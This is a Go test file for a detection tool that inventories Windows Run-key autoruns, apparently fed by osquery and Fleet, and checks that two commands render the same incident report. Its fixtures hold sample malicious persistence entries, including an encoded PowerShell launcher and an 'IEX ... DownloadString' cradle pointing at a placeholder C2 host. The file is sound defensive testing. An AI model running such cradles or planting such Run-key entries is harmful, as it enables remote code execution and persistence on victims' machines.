package cli

import (
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// fleet pull renders the same incidents and page as fleet report over a
// result log holding the same snapshot: one renderer, one incident model.
func TestPullRendersTheSamePageAsReport(t *testing.T) {
	const fetched = "2025-03-03T00:00:00Z"
	tm, _ := time.Parse(time.RFC3339, fetched)
	hosts := map[string][]map[string]string{
		"ws-1": {
			{"path": `HKEY_USERS\S-1-5-21-1\Software\Microsoft\Windows\CurrentVersion\Run\Updater`, "name": "Updater", "location": "run", "username": "alice",
				"data": `powershell -c "$x=(gp HKCU:Software\Debug).Debug;powershell -enc $x"`, "payload_kind": "registry", "payload_path": `HKEY_USERS\S-1-5-21-1\Software\Debug`,
				"payload_preview": "IEX (New-Object Net.WebClient).DownloadString('http://c2.example.invalid/a')", "indicators": "download_cradle,encoded_command,registry_payload", "score": "95", "verdict": "malicious"},
			{"path": `HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\SecurityHealth`, "name": "SecurityHealth", "location": "run", "data": `%windir%\system32\SecurityHealthSystray.exe`, "score": "0", "verdict": "benign"},
		},
		"ws-2": {
			{"path": `HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\SecurityHealth`, "name": "SecurityHealth", "location": "run", "data": `%windir%\system32\SecurityHealthSystray.exe`, "score": "0", "verdict": "benign"},
			{"path": `HKEY_USERS\S-1-5-21-2\Software\Microsoft\Windows\CurrentVersion\Run\upd`, "name": "upd", "location": "run", "username": "bob", "data": `powershell.exe -nop -w hidden -File C:\Users\bob\AppData\Roaming\upd.ps1`,
				"payload_kind": "file", "payload_path": `C:\Users\bob\AppData\Roaming\upd.ps1`, "payload_preview": "Start-Process notepad", "indicators": "hidden_window,no_profile,script_file_payload", "score": "40", "verdict": "suspicious"},
		},
	}
	var log strings.Builder
	var results []map[string]any
	for i, name := range []string{"ws-1", "ws-2"} {
		line, _ := json.Marshal(map[string]any{"name": "pack/runkeyhunt/runkeyhunt_autorun_inventory", "hostIdentifier": name, "unixTime": tm.Unix(),
			"decorations": map[string]string{"hostname": name}, "snapshot": hosts[name], "action": "snapshot"})
		log.Write(line)
		log.WriteByte('\n')
		for _, row := range hosts[name] {
			results = append(results, map[string]any{"host_id": i + 1, "host_name": name, "last_fetched": fetched, "columns": row})
		}
	}
	logFile := filepath.Join(t.TempDir(), "osqueryd.results.log")
	os.WriteFile(logFile, []byte(log.String()), 0o644)
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/api/v1/fleet/reports":
			list := []any{}
			if r.URL.Query().Get("page") == "0" {
				list = append(list, map[string]any{"id": 7, "name": "runkeyhunt_autorun_inventory", "logging": "snapshot"})
			}
			json.NewEncoder(w).Encode(map[string]any{"reports": list})
		case "/api/v1/fleet/reports/7/report":
			json.NewEncoder(w).Encode(map[string]any{"report_id": 7, "results": results})
		default:
			w.WriteHeader(http.StatusNotFound)
			w.Write([]byte(`{"message":"not found"}`))
		}
	}))
	t.Cleanup(srv.Close)

	body := func(page string) string { // the page from the cards to the end: the header names the input
		i, j := strings.Index(page, `<div class="tiles">`), strings.Index(page, "</main>")
		if i < 0 || j < i {
			t.Fatalf("not a report page: %.200s", page)
		}
		return page[i:j]
	}
	_, fromLog, errOut := run(t, environment{}, "report", "--format", "html", logFile)
	_, fromFleet, pullErr := run(t, environment{}, "pull", "--url", srv.URL, "--token", secret, "--format", "html")
	if body(fromLog) != body(fromFleet) {
		t.Errorf("pull and report pages differ\nreport stderr: %s\npull stderr: %s", errOut, pullErr)
	}
	for _, want := range []string{"Updater", "DownloadString", "upd.ps1", `data-verdict="malicious"`, `data-verdict="suspicious"`} {
		if !strings.Contains(fromFleet, want) {
			t.Errorf("pull page lacks %q", want)
		}
	}
	var a, b struct {
		Incidents []map[string]any `json:"incidents"`
	}
	_, j1, _ := run(t, environment{}, "report", "--format", "json", logFile)
	_, j2, _ := run(t, environment{}, "pull", "--url", srv.URL, "--token", secret, "--format", "json")
	json.Unmarshal([]byte(j1), &a)
	json.Unmarshal([]byte(j2), &b)
	x, _ := json.Marshal(a.Incidents)
	y, _ := json.Marshal(b.Incidents)
	if len(a.Incidents) != 2 || string(x) != string(y) {
		t.Errorf("incidents differ:\nreport %s\npull   %s", x, y)
	}
}
